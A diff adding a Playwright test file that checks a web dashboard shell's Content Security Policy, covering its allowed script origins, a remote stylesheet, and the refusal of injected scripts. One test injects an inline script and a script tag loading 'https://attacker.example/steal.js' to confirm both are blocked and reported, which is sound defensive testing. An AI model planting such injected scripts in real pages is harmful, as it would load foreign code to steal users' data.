@@ -1,0 +1,49 @@
+import { SHELL_URL } from '../playwright.config';
+import { describeViolation, expect, test } from './fixtures';
+import { REMOTE_ORIGINS } from './support';
+
+// The shell's Content Security Policy (docs/decisions/0018-serving-and-security-headers.md) in the
+// browser: the dashboard runs under it without a single violation (every spec checks that through
+// the shared fixture), and what it refuses is reported.
+
+test("the shell's page allows scripts from itself and the registry's remotes only", async ({ request }) => {
+  const response = await request.get('/home');
+  const policy = response.headers()['content-security-policy'];
+  const scriptSrc = policy.split(';').find((directive) => directive.startsWith('script-src '));
+  const allowed = scriptSrc?.split(' ').slice(1).sort();
+  expect(allowed).toEqual(
+    ["'self'", ...Object.values(REMOTE_ORIGINS), 'http://localhost:4806', 'http://localhost:4807', 'http://127.0.0.1:4803'].sort(),
+  );
+  expect(policy).not.toMatch(/unsafe-inline|unsafe-eval/);
+});
+
+test("a remote's stylesheet applies: the notification bell's CSS comes from the notifications origin", async ({ page }) => {
+  const stylesheet = page.locator(`link[rel="stylesheet"][href^="${REMOTE_ORIGINS.notifications}/"]`);
+  await expect(stylesheet).toHaveCount(1);
+  expect(await page.locator('style').count()).toBe(0);
+  // notification-bell.css makes the bell a 2.5rem circle.
+  const bell = page.getByRole('banner').getByRole('button', { name: 'Notifications' });
+  await expect(bell).toHaveCSS('border-radius', '50%');
+  await expect(bell).toHaveCSS('width', '40px');
+});
+
+test('an injected script, inline or from another origin, is refused and reported with its directive and URL', async ({
+  page,
+  policyViolations,
+}) => {
+  await page.evaluate(() => {
+    const inline = document.createElement('script');
+    inline.textContent = 'window.injected = true';
+    document.body.append(inline);
+    const foreign = document.createElement('script');
+    foreign.src = 'https://attacker.example/steal.js';
+    document.body.append(foreign);
+  });
+  await expect.poll(() => policyViolations.length).toBe(2);
+  expect(await page.evaluate(() => (window as unknown as { injected?: boolean }).injected)).toBeUndefined();
+  const messages = policyViolations.splice(0).map(describeViolation);
+  expect(messages).toEqual([
+    `script-src-elem blocked inline on ${SHELL_URL}/home`,
+    `script-src-elem blocked https://attacker.example/steal.js on ${SHELL_URL}/home`,
+  ]);
+});
